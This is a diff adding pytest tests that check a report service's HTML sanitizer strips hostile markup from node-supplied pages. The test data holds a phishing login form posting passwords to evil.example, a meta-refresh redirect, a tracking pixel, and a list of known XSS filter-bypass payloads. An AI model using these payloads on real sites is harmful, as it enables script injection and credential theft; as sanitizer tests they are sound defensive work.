@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import re
 
 import pytest
 from ovr_fleet import outbox, protocol, registry, reports
@@ -87,3 +88,66 @@ def test_aggregate_json_and_html(conn):
     with pytest.raises(registry.NotFound):
         reports.aggregate(conn, "nope")
     assert reports.events_with_reports(conn)[0]["reports"] == 3
+
+
+HOSTILE = ("<!doctype html><html><head><meta charset=utf-8><meta http-equiv=refresh content='0;url=https://evil.example/'>"
+           "<META HTTP-EQUIV='Refresh' CONTENT='1'><base href='https://evil.example/'><style>h1{color:red}</style></head><body>"
+           "<h1 onclick='steal()' class=t>Report</h1><form action='https://evil.example/login' method=post>"
+           "<p>Session expired, log in again</p><input name=password type=password><button>Log in</button></form>"
+           "<script>fetch('/api/nodes')</script><a href='javascript:alert(1)'>details</a><iframe src='https://evil.example/'>"
+           "x</iframe><img src='https://evil.example/pixel.gif' alt=pixel><img src='data:image/png;base64,iVBORw0KGgo=' alt=photo>"
+           "<table><tr><td style='width:10px'>1 &lt; 2</td></tr></table><!-- <script>alert(2)</script> --></body></html>")
+
+
+def test_report_html_from_a_node_is_cleaned_and_what_was_removed_is_said(conn):
+    """A node's HTML is served on the operator origin: whatever the sandbox does not stop in
+    every browser (a meta refresh) or a phishing form is removed before it is stored."""
+    with tx(conn):
+        out = reports.ingest(conn, "edge-a", report("rh") | {"html": HOSTILE})
+    assert out["status"] == "stored" and [a["report_id"] for a in acks(conn)] == ["rh"]
+    assert {"<meta http-equiv>", "<base>", "<form>", "<script>", "<iframe>", "<input>", "<button>", "<a>",
+            "onclick=", "img src (not a data: image)"} <= set(out["refused"])
+    page = reports.get(conn, "rh")["html"]
+    for bad in ("http-equiv", "refresh", "<base", "<form", "<input", "<button", "<script", "<iframe", "<a ", "onclick",
+                "javascript:", "evil.example", "fetch(", "alert("):
+        assert bad not in page.lower(), bad
+    for kept in ("<!doctype html>", '<meta charset="utf-8">', "<style>h1{color:red}</style>", '<h1 class="t">Report</h1>',
+                 "Session expired, log in again", "details", 'src="data:image/png;base64,iVBORw0KGgo="', 'alt="pixel"',
+                 '<td style="width:10px">1 &lt; 2</td>'):
+        assert kept in page, kept
+    assert reports.clean_html(page) == (page, [])  # cleaning twice changes nothing
+
+
+def test_report_html_as_the_edge_renders_it_is_kept(conn):
+    edge = ("<!doctype html><html lang=en><head><meta charset=utf-8><meta name=viewport content=\"width=device-width\">"
+            "<title>Report: Fest &amp; Co</title><style>\nbody{font-family:system-ui,sans-serif}\n.bar{display:inline-block}"
+            "</style></head><body>\n<h1>Fest &amp; Co</h1><p class=muted>event e1 · node edge-a</p><section class=card><h2>gx-1</h2>"
+            "<table><tr><th>Energy (real)</th><td>12.5 Wh</td></tr><tr><td>L1</td><td><div class=bar style='width:40px'></div>"
+            " 20.0%</td></tr></table><h3>Load</h3></section><h2>Notes</h2><ul><li><b>2026-11-27 10:00:00 UTC</b> gx-1 hi</li>"
+            "</ul><h2>Photos</h2><figure><img src='/api/photos/3/file' alt='dock' loading=lazy><figcaption>dock</figcaption>"
+            "</figure></body></html>\n")
+    page, removed = reports.clean_html(edge)
+    assert removed == ["img src (not a data: image)"]  # the edge's photo URLs mean nothing on the cloud
+    for kept in ('<meta name="viewport" content="width=device-width">', "<title>Report: Fest &amp; Co</title>",
+                 '<div class="bar" style="width:40px"></div>', '<img alt="dock" loading="lazy">', "<figcaption>dock</figcaption>",
+                 "<li><b>2026-11-27 10:00:00 UTC</b> gx-1 hi</li>", "body{font-family:system-ui,sans-serif}"):
+        assert kept in page, kept
+
+
+@pytest.mark.parametrize("page", [
+    "<scr<script>ipt>alert(1)</script>", "<svg><script>alert(1)</script></svg>", "<img src=x onerror=alert(1)>",
+    "<a href='jav&#x09;ascript:alert(1)'>x</a>", "<meta content='0;url=//e' http-equiv='refresh'>", "<SCRIPT>alert(1)</SCRIPT>",
+    "<style>@import 'https://e/x.css'</style>", "<title><script>alert(1)</script></title>", "<p/onclick=alert(1)>x",
+    "<iframe/srcdoc='<script>alert(1)</script>'>", "<embed src=x><p>after</p>", "<img src='data:image/svg+xml;base64,AA'>",
+    "<div style='background:url(https://e)'>x</div>", "<!--><script>alert(1)</script>-->", "<form><button formaction=x>",
+    "<noscript><p title='</noscript><script>alert(1)</script>'></noscript>", "<object data=x></object><link rel=import href=x>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<base href=//e/><p>unterminated <a href='javascript:x'",
+])
+def test_cleaned_html_has_no_active_tag_whatever_the_trick(page):
+    out, _ = reports.clean_html(page)
+    low = out.lower()
+    for tag in ("<script", "<iframe", "<svg", "<math", "<form", "<button", "<a ", "<embed", "<object", "<link", "<base", "<noscript"):
+        assert tag not in low, (page, out)
+    assert "http-equiv" not in low and "url(" not in low and "@import" not in low
+    assert not re.search(r"<[^>]*\son[a-z]+=", low), out
+    assert reports.clean_html(out) == (out, [])
